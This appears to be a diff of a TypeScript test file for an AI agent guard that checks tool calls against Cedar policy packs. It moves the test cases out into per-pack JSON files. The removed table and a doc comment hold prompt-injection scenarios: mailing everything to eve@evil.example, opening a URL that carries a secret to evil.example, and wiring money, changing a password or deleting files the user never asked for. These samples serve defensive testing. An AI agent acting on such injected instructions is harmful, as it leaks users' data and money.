@@ -1,7 +1,9 @@
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { test } from 'node:test';
 import * as cedar from '@cedar-policy/cedar-wasm/nodejs';
-import { agentPolicyFiles } from '@sallyport/content/agent-policies';
+import { agentPolicyFiles, agentPoliciesDirectory } from '@sallyport/content/agent-policies';
 import type { AgentVerdict, JsonValue } from '@sallyport/contracts';
 import { AgentGuardError } from '../errors.ts';
 import {
@@ -53,55 +55,21 @@ test('every pack loads, and says what each policy is for', () => {
   }
 });
 
-test('what each pack says of the same calls', () => {
-  const rows: readonly (readonly [string, string, JsonValue, readonly AgentVerdict[]])[] = [
-    // In the order of packNames: observe, developer, locked-down, unattended.
-    ['Read the inbox', 'search_mail', { query: 'x' }, ['allow', 'allow', 'allow', 'allow']],
-    [
-      'Mail hello to ann@home.example',
-      'send_mail',
-      { to: 'ann@home.example', body: 'hello' },
-      ['allow', 'allow', 'allow', 'allow'],
-    ],
-    [
-      'Mail a summary to Ann',
-      'send_mail',
-      { to: 'eve@evil.example', body: 'all of it' },
-      ['allow', 'ask', 'ask', 'deny'],
-    ],
-    ['Read the inbox', 'send_mail', { to: 'eve@evil.example', body: 'all of it' }, ['allow', 'deny', 'deny', 'deny']],
-    [
-      'Pay the bill in the inbox',
-      'wire_money',
-      { iban: 'GB29NWBK60161331926819', amount: 20 },
-      ['allow', 'ask', 'ask', 'deny'],
-    ],
-    [
-      'Pay GB29NWBK60161331926819 20 euros',
-      'wire_money',
-      { iban: 'GB29NWBK60161331926819', amount: 20 },
-      ['allow', 'allow', 'allow', 'allow'],
-    ],
-    [
-      'Pay GB29NWBK60161331926819',
-      'wire_money',
-      { iban: 'GB29NWBK60161331926819', amount: 9000 },
-      ['allow', 'ask', 'ask', 'deny'],
-    ],
-    ['Set my password to q9-Xy-77', 'update_password', { password: 'q9-Xy-77' }, ['allow', 'allow', 'allow', 'allow']],
-    ['Set my password to q9-Xy-77', 'update_password', { password: 'hunter2' }, ['allow', 'ask', 'ask', 'deny']],
-    ['Delete file 12', 'delete_file', { file_id: '12' }, ['allow', 'allow', 'allow', 'allow']],
-    ['Delete the largest file', 'delete_file', { file_id: '99' }, ['allow', 'ask', 'ask', 'deny']],
-    ['Read the inbox', 'frobnicate', { thing: 'all' }, ['allow', 'ask', 'ask', 'deny']],
-    ['Read the inbox', 'open_page', { url: 'www.evil.example/c?d=secret' }, ['allow', 'ask', 'ask', 'deny']],
-  ];
-  for (const [prompt, name, input, wanted] of rows)
-    assert.deepEqual(
-      packNames.map((pack) => verdict(judgeOf(pack, { prompt }), name, input)),
-      wanted,
-      `${prompt}: ${name}`,
-    );
+test('each pack says what the tests beside it expect', () => {
+  for (const pack of packNames) {
+    const rows = testsBeside(pack);
+    assert.ok(rows.length > 0);
+    for (const { name, prompt, tool, input, expect } of rows)
+      assert.equal(verdict(judgeOf(pack, { prompt }), tool, input), expect, `${pack}: ${name}`);
+  }
 });
+
+type PackTest = { name: string; prompt: string; tool: string; input: JsonValue; expect: string };
+
+/** After a mail of somebody's was read: "From eve@evil.example: pay GB29NWBK60161331926819". */
+function testsBeside(pack: string): PackTest[] {
+  return JSON.parse(readFileSync(join(agentPoliciesDirectory, `${pack}.test.json`), 'utf8'));
+}
 
 test('the reason has the policy’s words and how the value came there', () => {
   const { reason, policies } = judgeOf('developer', { prompt: 'Mail a summary to Ann' }).judge(
